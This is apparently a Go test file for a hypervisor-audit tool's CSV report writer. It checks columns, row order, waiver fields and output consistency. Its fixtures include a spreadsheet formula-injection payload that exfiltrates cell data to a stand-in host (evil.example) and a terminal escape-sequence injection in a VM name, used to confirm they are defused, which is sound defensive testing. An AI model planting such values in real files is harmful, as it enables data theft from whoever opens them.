package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"io"
	"slices"
	"testing"

	"github.com/hvaudit/hvaudit/checks/findings"
)

// readCSV parses the writer's output the way a consumer would.
func readCSV(t *testing.T, out []byte) (header []string, rows []map[string]string) {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("output is not valid CSV: %v", err)
	}
	if len(recs) == 0 {
		t.Fatal("no header")
	}
	header = recs[0]
	for _, rec := range recs[1:] {
		m := map[string]string{}
		for i, h := range header {
			m[h] = rec[i]
		}
		rows = append(rows, m)
	}
	return header, rows
}

func TestCSVGolden(t *testing.T) {
	golden(t, "report.csv.golden", writeFormat(t, "csv", Options{}, sampleRun()))
}

func TestCSVRowsAndColumns(t *testing.T) {
	run := sampleRun()
	header, rows := readCSV(t, writeFormat(t, "csv", Options{}, run))
	want := []string{
		"target", "object_kind", "object_id", "object_name", "check_id", "title", "area", "severity",
		"status", "observed_status", "observed", "evidence_source", "expected", "message",
		"stig", "scg", "cis", "nist80053", "remediation",
		"waiver_justification", "waiver_approver", "waiver_expires", "waiver_expired", "threats",
	}
	if !slices.Equal(header, want) {
		t.Fatalf("header = %v\nwant     %v", header, want)
	}
	// One row per finding, plus one for the target that was not audited.
	if got, want := len(rows), len(run.Findings)+1; got != want {
		t.Fatalf("%d rows, want %d", got, want)
	}

	// Same order as the JSON report, with the failed target in its place.
	r, err := prepare(run)
	if err != nil {
		t.Fatal(err)
	}
	sorted := r.Findings
	var i int
	for _, row := range rows {
		if row["target"] == "kvm01" {
			if row["status"] != "error" || row["check_id"] != "" || row["object_kind"] != "target" ||
				row["message"] != run.Targets[1].Error {
				t.Errorf("failed target row = %v", row)
			}
			continue
		}
		f := sorted[i]
		i++
		if row["target"] != f.Target || row["check_id"] != f.CheckID || row["object_id"] != f.Object.ID || row["status"] != string(f.Status) {
			t.Errorf("row %d = %s/%s/%s, want %s/%s/%s", i, row["target"], row["check_id"], row["object_id"], f.Target, f.CheckID, f.Object.ID)
		}
	}
	if rows[len(rows)-3]["target"] != "kvm01" {
		t.Errorf("kvm01's row is not between esx01.lab's and vc01's findings")
	}

	byKey := map[string]map[string]string{}
	for _, row := range rows {
		byKey[row["check_id"]+"/"+row["object_id"]] = row
	}
	ssh := byKey["ESXI-HOST-ACC-01/host-21"]
	for col, want := range map[string]string{
		"stig": "ESXI-80-000193", "scg": "esxi-8.shell-ssh-disable", "cis": "", "nist80053": "CM-7",
		"observed":        "host.services.ssh.running = true\nhost.services.ssh.policy = \"on\"",
		"evidence_source": "host.services.ssh.running: HostServiceSystem.serviceInfo.service[\"TSM-SSH\"].running\nhost.services.ssh.policy: HostServiceSystem.serviceInfo.service[\"TSM-SSH\"].policy",
		"severity":        "critical", "area": "host-access", "waiver_expired": "",
	} {
		if ssh[col] != want {
			t.Errorf("SSH row %s = %q, want %q", col, ssh[col], want)
		}
	}
	mig := byKey["ESXI-VM-MIG-01/4210a3c1-0001"]
	if mig["status"] != "waived" || mig["observed_status"] != "fail" || mig["waiver_approver"] != "J. Rivera (risk board)" ||
		mig["waiver_expires"] != "2026-09-30" || mig["waiver_expired"] != "false" || mig["waiver_justification"] == "" {
		t.Errorf("waived row = %v", mig)
	}
	if log := byKey["ESXI-HOST-LOG-01/host-21"]; log["status"] != "fail" || log["waiver_expired"] != "true" {
		t.Errorf("expired-waiver row = %v", log)
	}
	// Absent evidence reads as absent, not as an empty value.
	if got := byKey["ESXI-HOST-PATCH-01/host-21"]["observed"]; got != "host.patch.release_line = (absent)" {
		t.Errorf("absent evidence = %q", got)
	}
	// Control characters from the estate are shown, not written raw.
	if got := byKey["ESXI-VM-CON-01/4210a3c1-0003"]["object_name"]; got != `evil\x1b]0;pwned\x07vm` {
		t.Errorf("object name = %q", got)
	}
}

// Cells a spreadsheet would run as formulas are defused; numbers are not.
func TestCSVFormulaInjection(t *testing.T) {
	run := sampleRun()
	run.Findings = run.Findings[:1]
	run.Findings[0].Object.Name = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	run.Findings[0].Message = "@SUM(1+1)"
	run.Findings[0].Evidence = []findings.Evidence{{Field: "x", Observed: -1}}
	run.Findings[0].Expected = "-1"
	_, rows := readCSV(t, writeFormat(t, "csv", Options{}, run))
	var row map[string]string
	for _, r := range rows {
		if r["check_id"] != "" {
			row = r
		}
	}
	if got := row["object_name"]; got != `'=HYPERLINK("http://evil.example/?"&A1,"click")` {
		t.Errorf("object name = %q", got)
	}
	if got := row["message"]; got != "'@SUM(1+1)" {
		t.Errorf("message = %q", got)
	}
	if got := row["expected"]; got != "-1" {
		t.Errorf("a plain number was altered: %q", got)
	}
}

// checkWriterContract is what every writer owes, whatever its format: the
// same bytes whatever order findings come in, the caller's Run untouched,
// and the same bytes from a run read back from its JSON report (`hvaudit
// report --from`), so all formats agree with the native report.
func checkWriterContract(t *testing.T, format string) {
	t.Helper()
	want := writeFormat(t, format, Options{}, sampleRun())

	run := sampleRun()
	slices.Reverse(run.Findings)
	slices.Reverse(run.Targets)
	reversed, err := json.Marshal(run)
	if err != nil {
		t.Fatal(err)
	}
	if got := writeFormat(t, format, Options{}, run); !bytes.Equal(got, want) {
		t.Errorf("%s: output depends on the order of findings and targets", format)
	}
	if after, _ := json.Marshal(run); !bytes.Equal(after, reversed) {
		t.Errorf("%s: Write modified the caller's run", format)
	}

	read, err := ReadRun(bytes.NewReader(writeFormat(t, "json", Options{}, sampleRun())))
	if err != nil {
		t.Fatal(err)
	}
	if got := writeFormat(t, format, Options{}, read); !bytes.Equal(got, want) {
		t.Errorf("%s: output from a run read back from JSON differs from the original's", format)
	}

	// A run with nothing in it still renders.
	if _, err := func() ([]byte, error) {
		w, _ := For(format, Options{})
		var buf bytes.Buffer
		err := w.Write(&buf, &Run{})
		return buf.Bytes(), err
	}(); err != nil {
		t.Errorf("%s: empty run: %v", format, err)
	}
	// And a nil one is an error, not a panic.
	if w, _ := For(format, Options{}); w.Write(io.Discard, nil) == nil {
		t.Errorf("%s: nil run written without error", format)
	}
}

func TestCSVWriterContract(t *testing.T) { checkWriterContract(t, "csv") }
